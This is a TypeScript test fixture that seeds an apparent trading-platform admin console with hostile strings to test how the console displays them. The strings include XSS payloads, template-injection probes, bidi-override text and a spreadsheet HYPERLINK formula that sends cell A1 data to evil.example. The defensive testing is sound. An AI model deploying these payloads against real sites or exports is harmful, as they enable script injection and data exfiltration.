import { synced } from './admit.js';
import { sendsKyc, sendsPayment, type ConsoleStand, type StoredMember } from './console-stand.js';

const IMAGE = '<img src="https://evil.example/x.png" onerror="alert(1)">';
const SCRIPT = '"><script>alert(2)</script>';
const LINK = 'javascript:alert(3)';
const FORMULA = '=HYPERLINK("https://evil.example/"&A1,"win")';
const BRACES = '{{constructor.constructor("alert(4)")()}} ${7*7} #{7*7}';
/** Turned around, and with signs that take no room. */
const REVERSED = '\u202Egnp.eli\u202C \u0645\u0631\u062D\u0628\u0627 a\u200Bb\uFEFFc';
const WORD = 'W'.repeat(500);

/** Texts that a browser, a spreadsheet or a template would take for something else, and one that is too long for any line. */
export const hostile = { IMAGE, SCRIPT, LINK, FORMULA, BRACES, REVERSED, WORD } as const;
const texts = Object.values(hostile);
/** Without the signs that the product's doors refuse because nobody can see them. */
const typed = texts.filter((text) => text !== REVERSED);
const short = (text: string, most: number) => text.slice(0, most);

/** Who has a hostile name, and one of everything a member can have. */
export interface Hostile {
  /** With KYC approved, a synced account and a payment. */
  trader: StoredMember;
  /** Wait for a decision on KYC and payment. */
  waiting: StoredMember;
  rejected: StoredMember;
  review: string;
  payment: string;
  invoice: string;
  mandate: string;
  broadcast: string;
  analysis: string;
  comment: string;
  calendarEvent: string;
  signal: string;
  event: string;
  /** The id of a person of the team. */
  colleague: string;
  code: string;
}

/** The surnames by which the people are told apart; each is a hostile text of its own. */
export const surnames = {
  trader: short(IMAGE, 100),
  waiting: short(SCRIPT, 100),
  rejected: short(FORMULA, 100),
  referred: short(WORD, 100),
} as const;

/**
 * Puts hostile texts wherever the console shows one: through the product's own doors where they take it, and into the database where they
 * do not.
 */
export async function plant(stand: ConsoleStand): Promise<Hostile> {
  const { admin, query } = stand;
  const [trader, waiting, rejected] = await Promise.all([stand.member('Trader'), stand.member('Waiting'), stand.member('Rejected')]);
  const [own] = await query<{ referral_code: string }>('select referral_code from users where id = $1', [trader.userId]);
  const referred = await stand.member('Referred', { refferedBy: own!.referral_code });

  await sendsKyc(trader, { n: 71, address: short(`${IMAGE} ${WORD}`, 500) });
  await mustBe(200, admin.get(`/approvekyc/${trader.userId}`));
  // A sync under way would read its own rows over those that are planted.
  await synced({ admin, userId: trader.userId });
  await sendsPayment(trader);
  await mustBe(200, admin.get(`/approvepayment/${trader.userId}`));
  await sendsKyc(referred, { n: 72, address: `${BRACES} ${LINK}` });
  await mustBe(200, admin.get(`/rejectkyc/${referred.userId}`));
  await sendsKyc(waiting, { n: 73, address: short(`${SCRIPT} ${FORMULA} ${WORD}`, 500) });
  await sendsPayment(waiting);
  await mustBe(200, admin.send('DELETE', `/deleteuser/${rejected.userId}`));

  for (const [userId, surname, otherName] of [
    [trader.userId, surnames.trader, short(BRACES, 100)],
    [waiting.userId, surnames.waiting, short(REVERSED, 100)],
    [rejected.userId, surnames.rejected, LINK],
    [referred.userId, surnames.referred, short(WORD, 100)],
  ] as const) {
    await query('update users set surname = $2, other_name = $3, country = $4, email = $5 where id = $1', [
      userId,
      surname,
      otherName,
      short(IMAGE, 80),
      `${short(WORD, 120)}${userId.slice(0, 8)}@${'w'.repeat(60)}.example`,
    ]);
  }
  await exchange(stand, trader.userId);
  await records(stand, { trader: trader.userId, waiting: waiting.userId, referred: referred.userId, rejected: rejected.userId });
  const first = async (sql: string, values: unknown[] = []) => (await query<{ id: string }>(sql, values))[0]!.id;
  return {
    trader,
    waiting,
    rejected,
    code: own!.referral_code,
    review: await first(`select id from kyc_submissions where user_id = $1 and status = 'pending'`, [waiting.userId]),
    payment: await first(`select id from payments where user_id = $1 and status = 'pending'`, [waiting.userId]),
    invoice: await first('select id from invoices limit 1'),
    mandate: await first('select id from fund_mandates limit 1'),
    broadcast: await first('select id from broadcasts limit 1'),
    signal: await first('select id from signals limit 1'),
    analysis: await first('select id from analysis_posts limit 1'),
    comment: await first('select id from comments limit 1'),
    calendarEvent: await first('select id from calendar_events limit 1'),
    colleague: await first(`select id from users where role = 'admin' limit 1`),
    event: await first(`select id from audit_events where detail ->> 'reason' = $1 limit 1`, [IMAGE]),
  };
}

/** An account as a venue of ill will would fill it. It is not read again, so that the rows stay. */
async function exchange({ query }: ConsoleStand, userId: string): Promise<void> {
  const [account] = await query<{ id: string }>('select id from exchange_accounts where user_id = $1 and is_current', [userId]);
  const id = account!.id;
  await query(
    `update exchange_accounts set sync_enabled = false, next_sync_at = null, last_synced_at = now(), key_rights = $2 where id = $1`,
    [id, JSON.stringify(['read', IMAGE])],
  );
  for (const [n, text] of texts.entries()) {
    await query(
      `insert into spot_trades (account_id, symbol, trade_id, buyer, order_id, maker, price, qty, quote_qty, fee, fee_asset, time) values
        ($1, $2, $3, true, $3, false, 1.5, 2, 3, 0.1, $2, now())`,
      [id, text, `h${n}`],
    );
    await query(
      `insert into futures_trades (account_id, symbol, trade_id, buyer, order_id, maker, position_side, price, qty, quote_qty,
        realized_pnl, fee, fee_asset, time) values ($1, $2, $3, true, $3, false, $2, 1.5, 2, 3, -1, 0.1, 'USDT', now())`,
      [id, text, `h${n}`],
    );
    await query(
      `insert into deposits (account_id, id, coin, network, amount, wallet_type, status, final, tx_id, inserted_at) values ($1, $3, $2,
        $2, 1, 0, 1, true, $2, now())`,
      [id, text, `h${n}`],
    );
    await query(
      `insert into withdrawals (account_id, id, coin, network, amount, transaction_fee, wallet_type, status, final, tx_id, applied_at)
        values ($1, $3, $2, $2, 1, 0.1, 0, 6, true, $2, now())`,
      [id, text, `h${n}`],
    );
    await query(`insert into asset_balances (account_id, coin, free, locked, value) values ($1, $2, 1, 0, 5) on conflict do nothing`, [
      id,
      text,
    ]);
    await query(`insert into wallet_balances (account_id, position, name, balance) values ($1, $3, $2, 5) on conflict do nothing`, [
      id,
      text,
      40 + n,
    ]);
    await query(
      `insert into futures_orders (account_id, order_id, symbol, price, orig_qty, executed_qty, orig_type, type, side, position_side,
        stop_price, working_type, time) values ($1, $3, $2, 1, 1, 0, $2, $2, 'BUY', 'BOTH', 0, $2, now())`,
      [id, text, `h${n}`],
    );
    await query(
      `insert into futures_positions (account_id, symbol, position_side, position_amt, entry_price, break_even_price, mark_price,
        unrealized_profit, liquidation_price, initial_margin, position_initial_margin, margin_asset, leverage, updated_at) values ($1, $2,
        'BOTH', 1, 1, 1, 1, 1, 1, 1, 1, $2, 2, now())`,
      [id, text],
    );
    await query(
      `insert into sync_cursors (account_id, dataset, symbol, state, row_count) values ($1, 'spot_trades', $2, 'complete', 1) on conflict
        do nothing`,
      [id, text],
    );
  }
  await query(
    `insert into sync_runs (id, account_id, user_id, trigger, state, started_at, finished_at, warnings, error) values (gen_random_uuid(),
      $1, $2, 'demand', 'failed', now(), now(), $3, $4)`,
    [id, userId, JSON.stringify(texts), short(`${IMAGE} ${WORD}`, 500)],
  );
}

async function records(
  { admin, query }: ConsoleStand,
  people: Record<'trader' | 'waiting' | 'referred' | 'rejected', string>,
): Promise<void> {
  const reason = short(`${IMAGE} ${FORMULA} ${WORD}`, 500);
  await query('update kyc_submissions set reason = $2 where user_id = $1', [people.referred, reason]);
  await query('update payments set txid = $2 where user_id = $1', [people.waiting, '0'.repeat(64)]);
  for (const [n, text] of texts.entries())
    await query(
      `insert into chain_transfers (chain, txid, position, address, invoice_id, units, state, confirmations, first_seen_at, read_at,
        attention, attention_at) select 'tron', $2, $3, $4, min(id::text)::uuid, 49500000, 'final', 20, now(), now(), 'late', now() from
        invoices where user_id = $1`,
      [people.trader, 'c'.repeat(64), n, short(text, 100)],
    );
  await query(
    `insert into sessions (id, user_id, idle_seconds, idle_ends_at, absolute_ends_at, security_epoch, user_agent, network) select
      gen_random_uuid(), id, 1800, now() + interval '20 minutes', now() + interval '5 hours', security_epoch, $2, '203.0.113.0/24' from
      users where id = $1`,
    [people.trader, short(`${IMAGE} ${WORD}`, 300)],
  );
  await query(
    `insert into fund_mandates (id, user_id, state, terms_version, text_sha256, signed_name, signed_at) values (gen_random_uuid(), $1,
      'signed', '2026-12', $2, $3, now())`,
    [people.trader, 'a'.repeat(64), short(`${IMAGE} ${WORD}`, 201)],
  );
  await query(
    `insert into share_disputes (id, user_id, signal_id, symbol, entry, exit, qty, reason, opened_at, state) values (gen_random_uuid(), $1,
      gen_random_uuid(), 'BTC/USDT', $2, 'exit', 1, $3, now(), 'open')`,
    [people.trader, `futures:a:BTCUSDT:${short(WORD, 100)}:buy`, short(`${IMAGE} ${WORD}`, 500)],
  );
  for (const text of texts) {
    await query(
      `insert into audit_events (id, actor_id, actor_role, network, action, target_type, target_id, detail) values (gen_random_uuid(),
        $1::uuid, 'trade club', '203.0.113.0/24', 'kyc.reject', 'user', ($1::uuid)::text, $2)`,
      [people.trader, JSON.stringify({ reason: text, userId: people.trader, nested: { [short(text, 60)]: [text] } })],
    );
  }
  await query(
    `insert into outbox (id, kind, dedupe_key, attempts, dead_at, error) values (gen_random_uuid(), 'mail.send', 'hostile', 9, now(), $1)`,
    [reason],
  );
  await query(
    `insert into mail_deliveries (id, outbox_id, letter, user_id, attempts, refused_at, last_answer) select gen_random_uuid(), id,
      'kyc-decided', $1, 9, now(), $2 from outbox where dedupe_key = 'hostile'`,
    [people.trader, short(reason, 300)],
  );
  await query(
    `insert into erasure_requests (id, user_id, state, answer_due_at, ended_at, reason) values (gen_random_uuid(), $1, 'refused', now() +
      interval '20 days', now(), $2)`,
    [people.trader, reason],
  );
  await query(
    `insert into broadcasts (id, subject, message, audience, kind, state, starts_at, finished_at, problem) values (gen_random_uuid(), $1,
      $2, 'all', 'news', 'done', now(), now(), $3)`,
    [short(`${IMAGE} ${BRACES}`, 200), texts.join('\n\n'), short(reason, 300)],
  );
  await query(
    `insert into broadcast_deliveries (broadcast_id, user_id, position, status, attempts, last_answer) select b.id, $1, 1,
      'failed_permanent', 1, $2 from broadcasts b`,
    [people.trader, short(`${SCRIPT} ${WORD}`, 300)],
  );
  await query(
    `insert into analysis_posts (id, slug, title, summary, body, pairs, tags, audience, state, words, published_at)
      values (gen_random_uuid(), 'hostile', $1, $2, $3, '["BTC/USDT"]', '["tag"]', 'public', 'published', 9, now())`,
    [short(`${IMAGE} ${WORD}`, 120), short(`${SCRIPT} ${BRACES}`, 300), texts.join('\n\n')],
  );
  await query(`insert into community_profiles (user_id, display_name, name_key, guidelines_version) values ($1, $2, 'hostile', 1)`, [
    people.trader,
    short(IMAGE, 30),
  ]);
  await query(
    `insert into comments (id, subject_kind, subject_id, author_id, text)
      select gen_random_uuid(), 'analysis', id, $1, $2 from analysis_posts where slug = 'hostile'`,
    [people.trader, texts.join('\n\n').slice(0, 2000)],
  );
  await query(
    `insert into calendar_events (id, slug, kind, title, summary, description, starts_at, ends_at, audience, state, published_at,
       scheduled_at)
      values (gen_random_uuid(), 'hostile', 'webinar', $1, $2, $3, now() + interval '1 day', now() + interval '25 hours', 'public',
        'published', now(), now())`,
    [short(`${IMAGE} ${WORD}`, 120), short(`${SCRIPT} ${BRACES}`, 300), texts.join('\n\n')],
  );
  await query(`insert into calendar_signups (event_id, user_id) select id, $1 from calendar_events`, [people.trader]);
  await query(
    `insert into comment_reports (id, comment_id, user_id, reason, details) select gen_random_uuid(), id, $1, 'other', $2 from comments`,
    [people.trader, short(`${SCRIPT} ${WORD}`, 500)],
  );
  const plain = (en: string) => ({ en, es: null, ar: null });
  const faqs = {
    title: plain('Questions'),
    lead: plain(short(SCRIPT, 200)),
    items: [{ question: plain(short(IMAGE, 200)), answer: { en: texts, es: null, ar: null }, action: null }],
  };
  await query(`insert into site_sections (section, draft, revision, version) values ('faqs', $1, 1, 0)`, [JSON.stringify(faqs)]);
  const signal = {
    asset: 'BTCUSDT',
    tradeType: 'Buy',
    timeFrame: short(`${IMAGE} ${LINK}`, 100),
    riskLevel: SCRIPT,
    leverage: '3',
    recommendedPositionSize: short(WORD, 100),
    duration: FORMULA,
    currentPrice: '60000',
    entryPrice: '59500',
    stopLoss: '57000',
    trailingStopLoss: 'breakeven',
    takeProfit1: '62000',
    takeProfit2: '64000',
    takeProfit3: '68000',
    marketCondition: short(`${BRACES} ${WORD}`, 500),
    signalMessage: typed.join('\n'),
    date: '2026-11-20',
    time: '14:00',
    projectedDateOfClosure: '2027-01-20',
  };
  await mustBe(201, admin.post('/createsignal', signal));
}

async function mustBe(status: number, sent: Promise<{ status: number; body: object }>): Promise<void> {
  const reply = await sent;
  if (reply.status !== status) throw new Error(`answered ${reply.status} instead of ${status}: ${JSON.stringify(reply.body)}`);
}
